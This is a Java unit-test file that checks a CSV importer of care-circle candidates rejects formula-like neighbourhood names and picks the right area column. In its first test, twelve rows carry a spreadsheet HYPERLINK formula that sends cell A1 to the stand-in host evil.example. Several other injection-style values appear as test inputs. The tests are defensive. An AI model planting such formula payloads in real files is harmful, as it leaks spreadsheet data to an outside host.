package nl.voorzorgcirkel.matching.formation;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;

import java.io.IOException;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.util.List;
import java.util.Optional;
import java.util.stream.Collectors;
import nl.voorzorgcirkel.core.csv.ImportMode;
import nl.voorzorgcirkel.core.csv.ImportResult;
import nl.voorzorgcirkel.core.validation.InvalidValueException;
import nl.voorzorgcirkel.testing.Fixtures;
import org.junit.jupiter.api.Test;

/**
 * A neighbourhood names the circles formed in it, so it must be a name as a circle's is (user test
 * 3, finding 1: a formula in the "Buurt" column was read without an error and then made forming
 * circles fail for the whole pool, naming no row).
 */
class CandidateNeighbourhoodTest {

  private static final String HEADER = "Nr;Naam;Geboortejaar;Breedtegraad;Lengtegraad;Aangemeld op;Wil verbinder zijn;Buurt";

  private static String row(int i, String buurt) {
    return "p-" + i + ";Deelnemer " + i + ";" + (1940 + i % 20) + ";52," + (3700 + i) + ";5," + (2200 + i)
        + ";1-3-2025;" + (i % 6 == 0 ? "ja" : "nee") + ";" + buurt;
  }

  @Test
  void aFormulaAsNeighbourhoodRefusesItsRowAndTheOthersFormCircles() {
    StringBuilder file = new StringBuilder("\uFEFF" + HEADER + "\r\n");
    for (int i = 1; i <= 24; i++) {
      file.append(row(i, i <= 12 ? "\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1;\"\"Muziekwijk\"\")\"" : "Muziekwijk Zuid"))
          .append("\r\n");
    }
    ImportResult<Candidate> read = CandidateCsv.read(file.toString().getBytes(StandardCharsets.UTF_8),
        ImportMode.VALID_ROWS);
    assertEquals(12, read.values().size());
    assertEquals(12, read.errors().size());
    assertEquals(List.of("2:Buurt:name-format"), read.errors().subList(0, 1).stream()
        .map(e -> e.row() + ":" + e.column().orElse("-") + ":" + e.rule()).collect(Collectors.toList()));
    assertFalse(read.errors().get(0).toString().contains("HYPERLINK"));
    FormationResult formed = FormationAlgorithms.recursiveBisection(FormationPolicy.standard(), 1)
        .form(read.values(), LocalDate.of(2026, 1, 1));
    assertEquals(12, formed.circles().stream().mapToInt(c -> c.circle().members().size()).sum());
  }

  @Test
  void aCandidateCannotBeMadeWithSuchANeighbourhood() {
    for (String name : List.of("=1+1", "+31", "-x", "@x", "Noord\u202E", "Noord\nZuid")) {
      InvalidValueException e = assertThrows(InvalidValueException.class,
          () -> Candidate.of(Fixtures.member("m-1").build(), false).withNeighbourhood(name));
      assertEquals("Candidate.neighbourhood:Text.name", e.violations().get(0).type() + "."
          + e.violations().get(0).path() + ":" + e.violations().get(0).rule());
    }
    assertEquals(Optional.of("Muziekwijk-Noord"), Candidate.of(Fixtures.member("m-1").build(), false).withNeighbourhood("Muziekwijk-Noord")
        .neighbourhood());
  }

  /** A list with both a buurt and a wijk column: the buurt is the neighbourhood, the wijk is left. */
  @Test
  void aBuurtColumnIsTheNeighbourhoodAndAWijkColumnBesideItIsIgnored() {
    String file = String.join("\n", HEADER + ";Wijk", row(1, "Noord;Muziekwijk"), row(2, "Zuid;Muziekwijk"));
    ImportResult<Candidate> read = CandidateCsv.read(file.getBytes(StandardCharsets.UTF_8), ImportMode.ALL_OR_NOTHING);
    assertEquals(List.of(Optional.of("Noord"), Optional.of("Zuid")),
        read.values().stream().map(Candidate::neighbourhood).collect(Collectors.toList()));
    assertEquals(List.of("Wijk"), read.ignoredColumns());
    // without a buurt column, the wijk names the area
    String wijkOnly = String.join("\n", HEADER.replace("Buurt", "Wijk"), row(1, "Muziekwijk"));
    assertEquals(Optional.of("Muziekwijk"), CandidateCsv.read(wijkOnly.getBytes(StandardCharsets.UTF_8),
        ImportMode.ALL_OR_NOTHING).values().get(0).neighbourhood());
  }
}
